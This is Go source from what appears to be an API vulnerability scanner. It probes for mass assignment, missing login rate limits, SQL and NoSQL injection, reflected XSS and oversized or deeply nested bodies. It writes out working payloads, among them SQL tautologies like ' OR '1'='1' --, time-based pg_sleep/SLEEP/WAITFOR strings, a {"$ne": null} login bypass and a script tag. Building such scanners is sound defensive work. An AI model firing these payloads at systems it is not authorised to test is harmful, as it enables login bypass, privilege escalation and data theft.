package scan

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"maps"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"time"

	"github.com/rampart-api/rampart/internal/lazyregexp"
)

func randomSuffix() string {
	b := make([]byte, 6)
	_, _ = rand.Read(b)
	return hex.EncodeToString(b)
}

var privileged = map[string]any{"role": "admin", "isAdmin": true, "admin": true, "permissions": []any{"*"}}

// reflectsPrivilege reports which privileged fields come back with the
// values sent, in a JSON body or in a token's payload.
func reflectsPrivilege(body []byte) []string {
	var v any
	if json.Unmarshal(body, &v) != nil {
		return nil
	}
	var hit []string
	seen := map[string]bool{}
	check := func(m map[string]any) {
		for k, want := range privileged {
			got, ok := m[k]
			if ok && !seen[k] && fmt.Sprint(got) == fmt.Sprint(want) {
				seen[k] = true
				hit = append(hit, k)
			}
		}
	}
	if m, ok := v.(map[string]any); ok {
		check(m)
	}
	walkJSON(v, 0, func(k string, val any) {
		if m, ok := val.(map[string]any); ok {
			check(m)
		}
		if s, ok := val.(string); ok {
			if c := jwtPayload(s); c != nil {
				check(c)
			}
		}
	})
	return hit
}

// checkMassAssignment creates an account with privileged fields added and
// looks for them in the answer, or in the token a login then returns.
// It creates data, so it runs only with Unsafe.
func (r *run) checkMassAssignment(ctx context.Context) {
	if !r.unsafe {
		return
	}
	for _, o := range r.opsWhere(func(o *Operation) bool { return o.Signup }) {
		user := "rampart-scan-" + randomSuffix()
		pass := "Rs-" + randomSuffix() + "-x9!"
		body := map[string]any{"username": user, "email": user + "@example.invalid", "password": pass, "name": user}
		if len(o.BodyFields) > 0 {
			// Only the privileged fields may be what a strict validator
			// refuses, or a refusal would prove nothing.
			maps.DeleteFunc(body, func(k string, _ any) bool { return !slices.Contains(o.BodyFields, k) })
		}
		for k, v := range privileged {
			body[k] = v
		}
		b, _ := json.Marshal(body)
		ex, err := r.send(ctx, &probe{Method: o.Method, Path: r.concrete(o), Op: o.String(), Body: b})
		if err != nil || !ex.ok() {
			continue
		}
		hit := reflectsPrivilege(ex.Body)
		if len(hit) == 0 {
			for _, l := range r.opsWhere(func(o *Operation) bool { return o.Login }) {
				lb := loginBody(r.loginShape(ctx, l), user, pass)
				lex, err := r.send(ctx, &probe{Method: l.Method, Path: l.Path, Op: l.String(), Body: lb, Harmless: true})
				if err == nil && lex.ok() {
					hit = reflectsPrivilege(lex.Body)
					break
				}
			}
		}
		if len(hit) > 0 {
			r.add(CheckMassAssignment, o.String(), "A new account sent with "+strings.Join(hit, ", ")+" was created with those privileges.", ex.evidence(append(r.secrets(), pass)...))
		}
	}
	r.massAssignUpdate(ctx)
}

// massAssignUpdate has a non-admin identity update its own user with
// privileged fields added and looks for them in the answer or in the user
// read back. It runs after every other family, since it may change the
// identity's privileges.
func (r *run) massAssignUpdate(ctx context.Context) {
	var id *Identity
	for i := range r.cfg.Identities {
		c := &r.cfg.Identities[i]
		if !c.Admin && !r.auth.refused[c.Name] && (r.auth.target == nil || c != r.auth.target.id || id == nil) {
			id = c
		}
	}
	if id == nil {
		return
	}
	ops := r.opsWhere(func(o *Operation) bool {
		return (o.Method == http.MethodPut || o.Method == http.MethodPatch) && len(o.Params) <= 1 && (meRe.MatchString(o.Path) || userPathRe.MatchString(o.Path))
	})
	if len(r.cfg.OpenAPI) == 0 {
		// Crawling cannot see writes: try them on the me-style reads. A
		// route that does not exist answers 404 or 405.
		for _, g := range r.opsWhere(func(o *Operation) bool {
			return o.Method == http.MethodGet && len(o.Params) == 0 && meRe.MatchString(o.Path)
		}) {
			ops = append(ops, &Operation{Method: http.MethodPatch, Path: g.Path}, &Operation{Method: http.MethodPut, Path: g.Path})
		}
	}
	for _, o := range ops {
		path, current := r.ownObject(ctx, o, id)
		if path == "" {
			continue
		}
		body := map[string]any{}
		if o.Method == http.MethodPut {
			maps.Copy(body, current)
		}
		for k, v := range privileged {
			body[k] = v
		}
		b, _ := json.Marshal(body)
		ex, err := r.send(ctx, &probe{Method: o.Method, Path: path, Op: o.String(), As: id, Body: b})
		if err != nil || !ex.ok() || r.base.matches(ex) {
			continue
		}
		hit := reflectsPrivilege(ex.Body)
		if len(hit) == 0 {
			if back, err := r.send(ctx, &probe{Method: http.MethodGet, Path: path, Op: "GET " + o.Path, As: id}); err == nil && back.ok() {
				hit = reflectsPrivilege(back.Body)
			}
		}
		if len(hit) > 0 {
			r.add(CheckMassAssignment, o.String(), "Identity "+id.Name+" updated its own user with "+strings.Join(hit, ", ")+" and the API kept them.", r.evidence(ex))
		}
	}
}

// ownObject returns the path of id's own object for o (its own id in the
// path parameter, or a me path) and the object as read, or "".
func (r *run) ownObject(ctx context.Context, o *Operation, id *Identity) (string, map[string]any) {
	cands := []string{o.Path}
	if len(o.Params) == 1 {
		cands = nil
		for _, m := range id.marks() {
			if !strings.Contains(m, "@") && len(cands) < 4 {
				cands = append(cands, o.fill(m))
			}
		}
	}
	for _, p := range cands {
		ex, err := r.send(ctx, &probe{Method: http.MethodGet, Path: p, Op: "GET " + o.Path, As: id})
		if err != nil || !ex.ok() || r.base.matches(ex) {
			continue
		}
		m, _ := decodeJSON(ex.Body).(map[string]any)
		if m == nil || !carriesMarks(ex.Body, id) {
			continue
		}
		if d, ok := m["data"].(map[string]any); ok && len(m) <= 3 {
			m = d
		}
		return p, m
	}
	return "", nil
}

// loginShapes are the credential bodies tried, in order, to learn the one
// a login operation reads. A body the API refuses as invalid (400, 422:
// an undeclared "email" under strict validation) never reaches the
// credential check, so it proves nothing about brute-force protection.
var loginShapes = [][]string{{"username", "password"}, {"email", "password"}, {"username", "email", "password"}}

// loginBody is a credential body with the given members.
func loginBody(keys []string, user, pass string) []byte {
	m := make(map[string]string, len(keys))
	for _, k := range keys {
		switch k {
		case "username":
			m[k] = user
		case "email":
			m[k] = user + "@example.invalid"
		default:
			m[k] = pass
		}
	}
	b, _ := json.Marshal(m)
	return b
}

// loginShape returns the credential members o reads: those the document
// declares, else the first shape the API does not refuse as invalid, else
// the first shape. It is learnt once per scan, with made-up users only.
func (r *run) loginShape(ctx context.Context, o *Operation) []string {
	o.shapeMu.Lock()
	defer o.shapeMu.Unlock()
	if o.loginKeys != nil {
		return o.loginKeys
	}
	var declared []string
	for _, k := range loginShapes[len(loginShapes)-1] {
		if slices.Contains(o.BodyFields, k) {
			declared = append(declared, k)
		}
	}
	if slices.Contains(declared, "password") && len(declared) > 1 {
		o.loginKeys = declared
		return declared
	}
	o.loginKeys = loginShapes[0]
	for _, keys := range loginShapes {
		ex, err := r.send(ctx, r.badLoginWith(o, keys))
		if err != nil {
			break
		}
		if ex.Status != http.StatusBadRequest && ex.Status != http.StatusUnprocessableEntity {
			o.loginKeys = keys
			break
		}
	}
	return o.loginKeys
}

// badLogin is a login for a made-up user: it cannot succeed or lock out a
// real account, so it is sent without Unsafe.
func (r *run) badLogin(ctx context.Context, o *Operation) *probe {
	return r.badLoginWith(o, r.loginShape(ctx, o))
}

func (r *run) badLoginWith(o *Operation, keys []string) *probe {
	body := loginBody(keys, "rampart-scan-"+randomSuffix(), "wrong-"+randomSuffix())
	return &probe{Method: o.Method, Path: o.Path, Op: o.String(), Body: body, Harmless: true}
}

// checkRateLimits sends a bounded burst of failed logins to each
// authentication operation and expects a 429 (or 423/503) before the end.
func (r *run) checkRateLimits(ctx context.Context) {
	burst := 20
	if r.unsafe {
		burst = 60
	}
	for _, o := range r.opsWhere(func(o *Operation) bool { return o.Login }) {
		var (
			mu      sync.Mutex
			limited bool
			last    *exchange
			sent    int
			wg      sync.WaitGroup
		)
		for range burst {
			wg.Add(1)
			go func() {
				defer wg.Done()
				ex, err := r.send(ctx, r.badLogin(ctx, o))
				if err != nil {
					return
				}
				mu.Lock()
				defer mu.Unlock()
				sent++
				last = ex
				if ex.Status == http.StatusTooManyRequests || ex.Status == http.StatusLocked || ex.Status == http.StatusServiceUnavailable || ex.Header.Get("Retry-After") != "" {
					limited = true
				}
			}()
		}
		wg.Wait()
		if !limited && sent == burst && last != nil && last.Status != http.StatusNotFound {
			ev := r.evidence(last)
			ev.Request = fmt.Sprintf("%d × %s", burst, ev.Request)
			r.add(CheckRateLimitLogin, o.String(), fmt.Sprintf("%d failed logins in a burst were all answered, none with 429.", burst), ev)
		}
	}
}

const xssPayload = `rampart<script>alert(7)</script>`

// checkInjection sends SQL probes to path and query parameters (and login
// bodies: a login probe is harmless), NoSQL operators to logins, and a
// script to parameters and queries, looking for it in HTML. A database
// error alone is a leak (errors.sql); SQL injection is reported only when
// a boolean differential confirms it.
func (r *run) checkInjection(ctx context.Context) {
	n := 0
	for _, o := range r.opsWhere(func(o *Operation) bool { return o.Method == http.MethodGet }) {
		if n >= 10 {
			break
		}
		n++
		if len(o.Params) > 0 {
			v := "1"
			if s := o.sampleIDs(); len(s) > 0 {
				v = s[0]
			}
			r.sqlBoolean(ctx, o, o.fill, v)
		}
		for _, q := range queryParams(o) {
			fill := func(v string) string { return r.concrete(o) + "?" + url.QueryEscape(q) + "=" + url.QueryEscape(v) }
			base := "rampart"
			switch nk := normKey(q); {
			case nk == "sort" || nk == "order" || nk == "orderby" || nk == "sortby":
				r.sqlOrderBy(ctx, o, fill)
				continue
			case idKeys[nk] || ownerKeys[nk]:
				base = "1"
			}
			r.sqlBoolean(ctx, o, fill, base)
		}
		p := o.Path
		if len(o.Params) > 0 {
			p = o.fill(xssPayload)
		} else {
			q := "q"
			if qs := queryParams(o); len(qs) > 0 {
				q = qs[0]
			}
			p += "?" + q + "=" + url.QueryEscape(xssPayload)
		}
		ex, err := r.send(ctx, &probe{Method: http.MethodGet, Path: p, Op: o.String()})
		if err != nil {
			if r.stop(err) {
				return
			}
			continue
		}
		if ex.contentType() == "text/html" && bytes.Contains(ex.Body, []byte("<script>alert(7)</script>")) {
			r.addEx(CheckInjectionXSS, o.String(), "A script sent in the request came back unescaped in an HTML response.", ex)
		}
	}
	for _, o := range r.opsWhere(func(o *Operation) bool { return o.Login }) {
		bad, err := r.send(ctx, r.badLogin(ctx, o))
		if err != nil || bad.ok() {
			continue
		}
		bodies := []struct {
			check, detail, body string
		}{
			{CheckInjectionNoSQL, "A login with {\"$ne\": null} as user name and password succeeded.", `{"username":{"$ne":null},"email":{"$ne":null},"password":{"$ne":null}}`},
			{CheckInjectionSQL, "A login with a SQL tautology as user name succeeded, where a wrong password failed.", `{"username":"' OR '1'='1' --","email":"' OR '1'='1' --","password":"' OR '1'='1' --"}`},
			{CheckInjectionSQL, "A login with a SQL comment after the user name succeeded, where a wrong password failed.", `{"username":"' OR 1=1--","email":"' OR 1=1--","password":"x"}`},
		}
		for _, b := range bodies {
			ex, err := r.send(ctx, &probe{Method: o.Method, Path: o.Path, Op: o.String(), Body: []byte(b.body), Harmless: true})
			if err == nil && ex.ok() && !r.base.matches(ex) {
				r.add(b.check, o.String(), b.detail, r.evidence(ex))
				if b.check == CheckInjectionSQL {
					break
				}
			}
		}
	}
}

// bodyQuotes sends a quote in every declared string member of JSON
// bodies, so observe sees a database error a body parameter causes. Only
// with Unsafe: the write may succeed, so it runs after the concurrent
// families, whose differentials would see the new object.
func (r *run) bodyQuotes(ctx context.Context) {
	if !r.unsafe {
		return
	}
	n := 0
	for _, o := range r.opsWhere(func(o *Operation) bool {
		return isWrite(o.Method) && o.Method != http.MethodDelete && len(o.BodyFields) > 0 && !o.Login
	}) {
		if n >= 6 || len(o.Params) > 0 && len(o.sampleIDs()) == 0 {
			continue
		}
		n++
		body := map[string]string{}
		for _, f := range o.BodyFields {
			body[f] = "rampart'\""
		}
		b, _ := json.Marshal(body)
		if _, err := r.send(ctx, &probe{Method: o.Method, Path: r.concrete(o), Op: o.String(), As: r.anyID(), Body: b}); err != nil && r.stop(err) {
			return
		}
	}
}

// queryParams are the query parameters worth injecting into: those the
// document declares, or q on a search operation.
func queryParams(o *Operation) []string {
	if len(o.Query) > 0 {
		return o.Query[:min(len(o.Query), 2)]
	}
	if strings.Contains(strings.ToLower(o.Path), "search") {
		return []string{"q"}
	}
	if o.crawled && len(o.Params) == 0 && !meRe.MatchString(o.Path) && !o.Admin {
		// Without a document, a collection may still filter on the common
		// search parameters.
		return []string{"q", "search"}
	}
	return nil
}

// sqlBoolean compares true and false SQL conditions appended to a value
// that works: for AND, the true one answers as the plain value and the
// false one does not; for OR, the true one answers more than the plain
// value and the false one the same. A quote that breaks the query is
// reported by observe as a database error leak, not as injection, since a
// parameterised query's type error looks the same.
func (r *run) sqlBoolean(ctx context.Context, o *Operation, fill func(string) string, v string) {
	get := func(val string) *exchange {
		ex, err := r.send(ctx, &probe{Method: http.MethodGet, Path: fill(val), Op: o.String(), As: r.anyID()})
		if err != nil {
			return nil
		}
		return ex
	}
	base := get(v)
	if base == nil || !base.ok() || r.base.matches(base) {
		return
	}
	broken, dialect := false, ""
	if q := get(v + "'"); q != nil && (q.Status >= 500 || sqlRe.Match(q.Body)) {
		broken, dialect = true, sqlDialect(q.Body)
	}
	same := func(a, b *exchange) bool {
		return a.Status == b.Status && (bytes.Equal(a.Body, b.Body) || fingerprintOf(a).same(fingerprintOf(b)) && len(a.Body) == len(b.Body))
	}
	pairs := [][2]string{{v + "' AND '1'='1", v + "' AND '1'='2"}, {v + " AND 1=1", v + " AND 1=2"}}
	ors := [][2]string{{v + "' OR '1'='1", v + "' OR '1'='2"}}
	if broken {
		pairs = append(pairs, [2]string{v + "')) AND 1=1--", v + "')) AND 1=2--"}, [2]string{v + "') AND 1=1--", v + "') AND 1=2--"})
		ors = append(ors, [2]string{v + "')) OR 1=1--", v + "')) OR 1=2--"}, [2]string{v + "' OR 1=1--", v + "' OR 1=2--"})
	}
	for _, pair := range pairs {
		t, f := get(pair[0]), get(pair[1])
		if t == nil || f == nil {
			return
		}
		if same(t, base) && !same(f, base) && !r.base.matches(t) {
			r.add(CheckInjectionSQL, o.String(), "Appending a true SQL condition to the value answered as the plain value did; a false one did not.", r.evidence(t))
			return
		}
	}
	for _, pair := range ors {
		t, f := get(pair[0]), get(pair[1])
		if t == nil || f == nil {
			return
		}
		if t.ok() && len(t.Body) > len(base.Body) && !same(t, base) && same(f, base) && !r.base.matches(t) {
			r.add(CheckInjectionSQL, o.String(), "Appending an always-true SQL condition to the value answered more than the plain value; an always-false one did not.", r.evidence(t))
			return
		}
	}
	if broken {
		r.sqlTime(ctx, o, get, v, dialect)
	}
}

var columnRe = lazyregexp.New(`^[A-Za-z_][A-Za-z0-9_]*$`)

// sqlOrderBy confirms injection into ORDER BY: sorting by a CASE whose
// true branch is id must answer as sorting by id, and the same CASE made
// false, falling to another column the answer lists, must answer in
// another order. An API that checks the parameter against its columns
// refuses both.
func (r *run) sqlOrderBy(ctx context.Context, o *Operation, fill func(string) string) {
	get := func(val string) *exchange {
		ex, err := r.send(ctx, &probe{Method: http.MethodGet, Path: fill(val), Op: o.String(), As: r.anyID()})
		if err != nil {
			return nil
		}
		return ex
	}
	base := get("id")
	if base == nil || !base.ok() || !base.isJSON() || r.base.matches(base) {
		return
	}
	// A quote shows whether the parameter reaches SQL unquoted; observe
	// reports the database error it may leak.
	get("id'")
	// The CASE decides the primary key of the sort: true sorts by id, as
	// the base did; false leaves every row equal on it, so the secondary
	// key, id descending, reverses the list. The reversal does not depend
	// on the data, as a second column's order would (rows created in the
	// same millisecond sort alike by time and by id half the time).
	t := get("(CASE WHEN 1=1 THEN id ELSE NULL END), id DESC")
	f := get("(CASE WHEN 1=2 THEN id ELSE NULL END), id DESC")
	if t != nil && f != nil && t.Status == base.Status && bytes.Equal(t.Body, base.Body) && f.ok() && !bytes.Equal(f.Body, base.Body) {
		r.add(CheckInjectionSQL, o.String(), "Sorting by a true SQL CASE answered as sorting by id; the same CASE made false fell through to the secondary sort key and reversed the list.", r.evidence(f))
		return
	}
	var cols []string
	walkJSON(decodeJSON(base.Body), 0, func(_ string, v any) {
		if l, ok := v.([]any); ok && len(l) > 1 && cols == nil {
			if m, ok := l[0].(map[string]any); ok {
				for k := range m {
					if k != "id" && columnRe.MatchString(k) {
						cols = append(cols, k)
					}
				}
				slices.Sort(cols)
				cols = cols[:min(len(cols), 3)]
			}
		}
	})
	for _, c := range cols {
		t := get("(CASE WHEN 1=1 THEN id ELSE " + c + " END)")
		f := get("(CASE WHEN 1=2 THEN id ELSE " + c + " END)")
		if t == nil || f == nil {
			continue
		}
		if t.Status == base.Status && bytes.Equal(t.Body, base.Body) && f.ok() && !bytes.Equal(f.Body, base.Body) {
			r.add(CheckInjectionSQL, o.String(), "Sorting by a true SQL CASE answered as sorting by id; the same CASE made false sorted by "+c+" instead.", r.evidence(f))
			return
		}
	}
}

// sleepDelay is how long a time-based probe asks the database to sleep;
// the control asks for none. Only the dialect the database error named is
// tried, so the probe costs two requests and a few seconds at most.
const sleepDelay = 3 * time.Second

var sleepPayloads = map[string][2]string{
	"postgres": {"'||pg_sleep(%d)||'", "'||pg_sleep(0)||'"},
	"mysql":    {"' AND SLEEP(%d)-- -", "' AND SLEEP(0)-- -"},
	"mssql":    {"'; WAITFOR DELAY '0:0:%d'--", "'; WAITFOR DELAY '0:0:0'--"},
}

// sqlDialect names the database an error message comes from, or "".
func sqlDialect(body []byte) string {
	switch s := string(body); {
	case strings.Contains(s, "pq: ") || strings.Contains(s, "PG::") || strings.Contains(s, "PSQLException") || strings.Contains(s, "psycopg2") ||
		strings.Contains(s, "unterminated quoted string") || strings.Contains(s, "syntax error at or near"):
		return "postgres"
	case strings.Contains(strings.ToLower(s), "you have an error in your sql syntax") || strings.Contains(s, "ER_PARSE_ERROR"):
		return "mysql"
	case strings.Contains(s, "Unclosed quotation mark") || strings.Contains(s, "ODBC SQL Server Driver"):
		return "mssql"
	}
	return ""
}

// sqlTime confirms injection by time: the sleep must take at least two
// thirds of sleepDelay longer than the control, which must itself be as
// quick as the plain value.
func (r *run) sqlTime(ctx context.Context, o *Operation, get func(string) *exchange, v, dialect string) {
	p, ok := sleepPayloads[dialect]
	if !ok {
		return
	}
	slow := get(v + fmt.Sprintf(p[0], int(sleepDelay/time.Second)))
	if slow == nil || slow.elapsed < sleepDelay*2/3 {
		return
	}
	fast := get(v + p[1])
	if fast == nil || fast.elapsed > sleepDelay/3 {
		return
	}
	r.add(CheckInjectionSQL, o.String(), fmt.Sprintf("Asking the database to sleep %s in the value delayed the answer by %s; the same payload sleeping 0s answered in %s.",
		sleepDelay, slow.elapsed.Round(100*time.Millisecond), fast.elapsed.Round(100*time.Millisecond)), r.evidence(slow))
}

// anyID is the first identity the API accepts, or nil.
func (r *run) anyID() *Identity {
	for i := range r.cfg.Identities {
		if !r.auth.refused[r.cfg.Identities[i].Name] {
			return &r.cfg.Identities[i]
		}
	}
	return nil
}

// checkLimits sends a 2 MiB body that is not JSON (harmless: it must be
// refused either way; only a 413 shows it was not read) and, with Unsafe,
// a deeply nested JSON body.
func (r *run) checkLimits(ctx context.Context) {
	posts := r.opsWhere(func(o *Operation) bool { return o.Method == http.MethodPost && len(o.Params) == 0 })
	if len(posts) == 0 {
		return
	}
	o := posts[0]
	if l := r.opsWhere(func(o *Operation) bool { return o.Login }); len(l) > 0 {
		o = l[0]
	}
	big := bytes.Repeat([]byte("A"), 2<<20)
	big[0] = '['
	ex, err := r.send(ctx, &probe{Method: o.Method, Path: o.Path, Op: o.String(), Body: big, Harmless: true})
	if err == nil && throttled(ex) {
		r.notef("limits: %s was throttled (%d); the body size probe is inconclusive", o, ex.Status)
	} else if err == nil && ex.Status != http.StatusRequestEntityTooLarge && ex.Status != http.StatusNotFound && ex.Status != http.StatusMethodNotAllowed && ex.Status != http.StatusUnsupportedMediaType {
		r.add(CheckLimitsBody, o.String(), fmt.Sprintf("A 2 MiB body was read and answered %d instead of 413.", ex.Status), r.evidence(ex))
	}
	if !r.unsafe {
		return
	}
	const depth = 5000
	deep := make([]byte, 0, depth*6+4)
	for range depth {
		deep = append(deep, `{"a":`...)
	}
	deep = append(deep, '1')
	deep = append(deep, bytes.Repeat([]byte("}"), depth)...)
	// A throttled login (the rate-limit burst runs alongside) proves
	// nothing; the next write without parameters is asked instead.
	cands := r.opsWhere(func(o *Operation) bool { return o.Login })
	for _, o := range posts {
		if !o.Login {
			cands = append(cands, o)
		}
	}
	for _, o := range cands {
		ex, err := r.send(ctx, &probe{Method: o.Method, Path: o.Path, Op: o.String(), Body: deep})
		switch {
		case err != nil:
			return
		case throttled(ex):
			r.notef("limits: %s was throttled (%d) when sent deeply nested JSON", o, ex.Status)
			continue
		case parsed(ex):
			r.add(CheckLimitsDepth, o.String(), fmt.Sprintf("A JSON body nested %d levels deep was parsed and answered %d.", depth, ex.Status), r.evidence(ex))
		}
		return
	}
}

// throttled reports an answer from a rate limit or lockout: the probe's
// body may never have been read, so nothing can be concluded from it.
func throttled(ex *exchange) bool {
	return ex.Status == http.StatusTooManyRequests || ex.Status == http.StatusLocked || ex.Status == http.StatusServiceUnavailable
}

// parsed reports an answer that shows the body was parsed: a success, or
// a refusal of credentials or a conflict that only a parsed body earns.
func parsed(ex *exchange) bool {
	return ex.ok() || ex.Status == http.StatusUnauthorized || ex.Status == http.StatusForbidden || ex.Status == http.StatusConflict
}
